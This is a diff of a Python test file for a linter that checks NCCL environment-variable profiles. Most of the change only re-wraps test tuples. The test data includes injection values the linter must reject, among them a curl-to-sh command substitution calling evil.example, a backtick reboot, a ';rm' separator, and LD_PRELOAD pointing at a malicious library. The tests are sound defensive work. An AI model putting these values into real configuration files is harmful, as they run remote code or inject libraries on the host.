@@ -6,8 +6,8 @@ import json
 
 import pytest
 
-from nccl_tune.live import lint
 from nccl_tune.cli import cli
+from nccl_tune.live import lint
 from nccl_tune.live.lint import ERROR, WARNING, KnownNames, lint_text
 
 # A fixed libnccl view so results do not depend on what is installed.
@@ -23,53 +23,135 @@ def run(text, known=FAKE):
 
 # Each rule: (failing text, expected (line, variable, severity), message fragment, passing text)
 RULES = [
-    ("malformed", "# c\nNCCL_PROTO=LL\nnot an assignment\n", (3, None, ERROR), "expected NAME=VALUE",
-     "# c\nNCCL_PROTO=LL\n"),
-    ("spaces around =", "NCCL_ALGO = Ring\n", (1, "NCCL_ALGO", ERROR), "a blank before '='",
-     "NCCL_ALGO=Ring\n"),
-    ("invalid value", "\nNCCL_NTHREADS=100\n", (2, "NCCL_NTHREADS", ERROR), "not a multiple of 32",
-     "\nNCCL_NTHREADS=96\n"),
-    ("LL128 explicit", "NCCL_ALGO=Ring\nNCCL_PROTO=LL128\n", (2, "NCCL_PROTO", WARNING), "LL128",
-     "NCCL_ALGO=Ring\nNCCL_PROTO=LL\n"),
+    (
+        "malformed",
+        "# c\nNCCL_PROTO=LL\nnot an assignment\n",
+        (3, None, ERROR),
+        "expected NAME=VALUE",
+        "# c\nNCCL_PROTO=LL\n",
+    ),
+    ("spaces around =", "NCCL_ALGO = Ring\n", (1, "NCCL_ALGO", ERROR), "a blank before '='", "NCCL_ALGO=Ring\n"),
+    (
+        "invalid value",
+        "\nNCCL_NTHREADS=100\n",
+        (2, "NCCL_NTHREADS", ERROR),
+        "not a multiple of 32",
+        "\nNCCL_NTHREADS=96\n",
+    ),
+    (
+        "LL128 explicit",
+        "NCCL_ALGO=Ring\nNCCL_PROTO=LL128\n",
+        (2, "NCCL_PROTO", WARNING),
+        "LL128",
+        "NCCL_ALGO=Ring\nNCCL_PROTO=LL\n",
+    ),
     ("LL128 by ^LL", "NCCL_PROTO=^LL\n", (1, "NCCL_PROTO", WARNING), "corrupt", "NCCL_PROTO=^LL128\n"),
-    ("P2P level case", "# x\n\nNCCL_P2P_LEVEL=sys\n", (3, "NCCL_P2P_LEVEL", WARNING), "wrong case",
-     "# x\n\nNCCL_P2P_LEVEL=SYS\n"),
-    ("set twice", "NCCL_ALGO=Ring\nNCCL_PROTO=LL\nNCCL_ALGO=Tree\n", (3, "NCCL_ALGO", WARNING),
-     "first on line 1", "NCCL_ALGO=Ring\nNCCL_PROTO=LL\n"),
-    ("quoted value", "NCCL_SOCKET_IFNAME=\"eth0\"\n", (1, "NCCL_SOCKET_IFNAME", ERROR), "docker keeps them",
-     "NCCL_SOCKET_IFNAME=eth0\n"),
-    ("variable expansion", "NCCL_DEBUG_FILE=/tmp/nccl.$HOSTNAME\n", (1, "NCCL_DEBUG_FILE", ERROR),
-     "'$' starts a variable", "NCCL_DEBUG_FILE=/tmp/nccl.%h.%p\n"),
-    ("command substitution", "NCCL_SOCKET_IFNAME=$(curl evil.example | sh)\n",
-     (1, "NCCL_SOCKET_IFNAME", ERROR), "command substitution", "NCCL_SOCKET_IFNAME=eth0\n"),
-    ("backtick", "NCCL_SOCKET_IFNAME=`reboot`\n", (1, "NCCL_SOCKET_IFNAME", ERROR),
-     "backtick", "NCCL_SOCKET_IFNAME=eth0\n"),
-    ("command separator", "NCCL_DEBUG_FILE=/tmp/x;rm\n", (1, "NCCL_DEBUG_FILE", ERROR),
-     "';' ends the assignment in bash and runs the rest as a command", "NCCL_DEBUG_FILE=/tmp/x\n"),
+    (
+        "P2P level case",
+        "# x\n\nNCCL_P2P_LEVEL=sys\n",
+        (3, "NCCL_P2P_LEVEL", WARNING),
+        "wrong case",
+        "# x\n\nNCCL_P2P_LEVEL=SYS\n",
+    ),
+    (
+        "set twice",
+        "NCCL_ALGO=Ring\nNCCL_PROTO=LL\nNCCL_ALGO=Tree\n",
+        (3, "NCCL_ALGO", WARNING),
+        "first on line 1",
+        "NCCL_ALGO=Ring\nNCCL_PROTO=LL\n",
+    ),
+    (
+        "quoted value",
+        'NCCL_SOCKET_IFNAME="eth0"\n',
+        (1, "NCCL_SOCKET_IFNAME", ERROR),
+        "docker keeps them",
+        "NCCL_SOCKET_IFNAME=eth0\n",
+    ),
+    (
+        "variable expansion",
+        "NCCL_DEBUG_FILE=/tmp/nccl.$HOSTNAME\n",
+        (1, "NCCL_DEBUG_FILE", ERROR),
+        "'$' starts a variable",
+        "NCCL_DEBUG_FILE=/tmp/nccl.%h.%p\n",
+    ),
+    (
+        "command substitution",
+        "NCCL_SOCKET_IFNAME=$(curl evil.example | sh)\n",
+        (1, "NCCL_SOCKET_IFNAME", ERROR),
+        "command substitution",
+        "NCCL_SOCKET_IFNAME=eth0\n",
+    ),
+    (
+        "backtick",
+        "NCCL_SOCKET_IFNAME=`reboot`\n",
+        (1, "NCCL_SOCKET_IFNAME", ERROR),
+        "backtick",
+        "NCCL_SOCKET_IFNAME=eth0\n",
+    ),
+    (
+        "command separator",
+        "NCCL_DEBUG_FILE=/tmp/x;rm\n",
+        (1, "NCCL_DEBUG_FILE", ERROR),
+        "';' ends the assignment in bash and runs the rest as a command",
+        "NCCL_DEBUG_FILE=/tmp/x\n",
+    ),
     ("background", "NCCL_DEBUG_FILE=/tmp/x&\n", (1, "NCCL_DEBUG_FILE", ERROR), "'&'", "NCCL_DEBUG_FILE=/tmp/x\n"),
     ("pipe", "NCCL_DEBUG_FILE=a|b\n", (1, "NCCL_DEBUG_FILE", ERROR), "'|'", "NCCL_DEBUG_FILE=ab\n"),
-    ("redirect out", "NCCL_DEBUG_FILE=a>b\n", (1, "NCCL_DEBUG_FILE", ERROR), "redirects output",
-     "NCCL_DEBUG_FILE=ab\n"),
+    (
+        "redirect out",
+        "NCCL_DEBUG_FILE=a>b\n",
+        (1, "NCCL_DEBUG_FILE", ERROR),
+        "redirects output",
+        "NCCL_DEBUG_FILE=ab\n",
+    ),
     ("redirect in", "NCCL_DEBUG_FILE=a<b\n", (1, "NCCL_DEBUG_FILE", ERROR), "redirects input", "NCCL_DEBUG_FILE=ab\n"),
-    ("tilde", "NCCL_DEBUG_FILE=~/nccl.log\n", (1, "NCCL_DEBUG_FILE", ERROR), "'~'",
-     "NCCL_DEBUG_FILE=/home/u/nccl.log\n"),
-    ("inline comment", "NCCL_PROTO=LL # fast\n", (1, "NCCL_PROTO", ERROR), "a blank",
-     "# fast\nNCCL_PROTO=LL\n"),
+    (
+        "tilde",
+        "NCCL_DEBUG_FILE=~/nccl.log\n",
+        (1, "NCCL_DEBUG_FILE", ERROR),
+        "'~'",
+        "NCCL_DEBUG_FILE=/home/u/nccl.log\n",
+    ),
+    ("inline comment", "NCCL_PROTO=LL # fast\n", (1, "NCCL_PROTO", ERROR), "a blank", "# fast\nNCCL_PROTO=LL\n"),
     ("export", "export NCCL_PROTO=LL\n", (1, "NCCL_PROTO", WARNING), "bash only", "NCCL_PROTO=LL\n"),
     ("trailing blanks", "NCCL_PROTO=LL  \n", (1, "NCCL_PROTO", ERROR), "a blank", "NCCL_PROTO=LL\n"),
     ("CRLF", "NCCL_PROTO=LL\r\n", (1, "NCCL_PROTO", ERROR), "carriage return", "NCCL_PROTO=LL\n"),
-    ("name in wrong case", "nccl_proto=LL\n", (1, "nccl_proto", ERROR), "did you mean NCCL_PROTO?",
-     "NCCL_PROTO=LL\n"),
-    ("not an NCCL variable", "NCCL_PROTO=LL\nLD_PRELOAD=/tmp/evil.so\n", (2, "LD_PRELOAD", ERROR),
-     "not an NCCL variable nor on the profile allow-list", "NCCL_PROTO=LL\n"),
-    ("loads a library", "NCCL_NET_PLUGIN=/tmp/evil.so\n", (1, "NCCL_NET_PLUGIN", ERROR),
-     "load a shared library", "NCCL_PROTO=LL\n"),
-    ("engine switch value", "VLLM_ALLREDUCE_USE_SYMM_MEM=true\n", (1, "VLLM_ALLREDUCE_USE_SYMM_MEM", ERROR),
-     "not a value its reader takes", "VLLM_ALLREDUCE_USE_SYMM_MEM=0\n"),
-    ("comment continued by systemd", "# note \\\nNCCL_PROTO=LL\n", (1, None, ERROR),
-     "ending in a backslash", "# note\nNCCL_PROTO=LL\n"),
-    ("unknown name", "NCCL_PROTO=LL\nNCCL_MAX_NCHANELS=16\n", (2, "NCCL_MAX_NCHANELS", WARNING),
-     "did you mean NCCL_MAX_NCHANNELS?", "NCCL_PROTO=LL\nNCCL_MAX_NCHANNELS=16\n"),
+    ("name in wrong case", "nccl_proto=LL\n", (1, "nccl_proto", ERROR), "did you mean NCCL_PROTO?", "NCCL_PROTO=LL\n"),
+    (
+        "not an NCCL variable",
+        "NCCL_PROTO=LL\nLD_PRELOAD=/tmp/evil.so\n",
+        (2, "LD_PRELOAD", ERROR),
+        "not an NCCL variable nor on the profile allow-list",
+        "NCCL_PROTO=LL\n",
+    ),
+    (
+        "loads a library",
+        "NCCL_NET_PLUGIN=/tmp/evil.so\n",
+        (1, "NCCL_NET_PLUGIN", ERROR),
+        "load a shared library",
+        "NCCL_PROTO=LL\n",
+    ),
+    (
+        "engine switch value",
+        "VLLM_ALLREDUCE_USE_SYMM_MEM=true\n",
+        (1, "VLLM_ALLREDUCE_USE_SYMM_MEM", ERROR),
+        "not a value its reader takes",
+        "VLLM_ALLREDUCE_USE_SYMM_MEM=0\n",
+    ),
+    (
+        "comment continued by systemd",
+        "# note \\\nNCCL_PROTO=LL\n",
+        (1, None, ERROR),
+        "ending in a backslash",
+        "# note\nNCCL_PROTO=LL\n",
+    ),
+    (
+        "unknown name",
+        "NCCL_PROTO=LL\nNCCL_MAX_NCHANELS=16\n",
+        (2, "NCCL_MAX_NCHANELS", WARNING),
+        "did you mean NCCL_MAX_NCHANNELS?",
+        "NCCL_PROTO=LL\nNCCL_MAX_NCHANNELS=16\n",
+    ),
 ]
 
 
@@ -119,10 +201,19 @@ def test_several_collective_sections_point_to_the_tuner_csv():
 
 def test_names_off_the_allow_list_are_errors_and_allowed_ones_pass():
     seen, _ = run("CUDA_VISIBLE_DEVICES=0,1,2,3\nOMP_NUM_THREADS=8\nPATH=/tmp\nBASH_ENV=/tmp/x\n")
-    assert seen == [(1, "CUDA_VISIBLE_DEVICES", ERROR), (2, "OMP_NUM_THREADS", ERROR),
-                    (3, "PATH", ERROR), (4, "BASH_ENV", ERROR)]
-    assert run("TORCH_NCCL_BLOCKING_WAIT=0\nVLLM_ALLREDUCE_USE_FLASHINFER=0\n"
-               "SGLANG_SKIP_P2P_CHECK=1\nVLLM_FLASHINFER_ALLREDUCE_BACKEND=trtllm\n")[0] == []
+    assert seen == [
+        (1, "CUDA_VISIBLE_DEVICES", ERROR),
+        (2, "OMP_NUM_THREADS", ERROR),
+        (3, "PATH", ERROR),
+        (4, "BASH_ENV", ERROR),
+    ]
+    assert (
+        run(
+            "TORCH_NCCL_BLOCKING_WAIT=0\nVLLM_ALLREDUCE_USE_FLASHINFER=0\n"
+            "SGLANG_SKIP_P2P_CHECK=1\nVLLM_FLASHINFER_ALLREDUCE_BACKEND=trtllm\n"
+        )[0]
+        == []
+    )
 
 
 def test_line_numbers_with_comments_and_blank_lines():
@@ -138,15 +229,22 @@ def test_shipped_profile_is_lint_clean():
 
 
 def test_lint_env_for_mappings():
-    found = lint.lint_env({"NCCL_PROTO": "^LL", "NCCL_NTHREADS": "7", "NCCL_FOO": "1",
-                           "LD_PRELOAD": "/x.so", "NCCL_DEBUG_FILE": "a b"}, known=FAKE)
+    found = lint.lint_env(
+        {"NCCL_PROTO": "^LL", "NCCL_NTHREADS": "7", "NCCL_FOO": "1", "LD_PRELOAD": "/x.so", "NCCL_DEBUG_FILE": "a b"},
+        known=FAKE,
+    )
     assert [(f.variable, f.severity, f.line) for f in found] == [
-        ("LD_PRELOAD", ERROR, None), ("NCCL_DEBUG_FILE", ERROR, None),
-        ("NCCL_PROTO", WARNING, None), ("NCCL_NTHREADS", ERROR, None), ("NCCL_FOO", WARNING, None)]
+        ("LD_PRELOAD", ERROR, None),
+        ("NCCL_DEBUG_FILE", ERROR, None),
+        ("NCCL_PROTO", WARNING, None),
+        ("NCCL_NTHREADS", ERROR, None),
+        ("NCCL_FOO", WARNING, None),
+    ]
     assert lint.has_errors(found) and lint.counts(found) == (3, 2)
 
 
 # ------------------------------------------------------------------ the command
+
 
 def test_cli_clean_warning_and_error_exit_codes(tmp_path, cli_runner):
     clean = tmp_path / "clean.env"
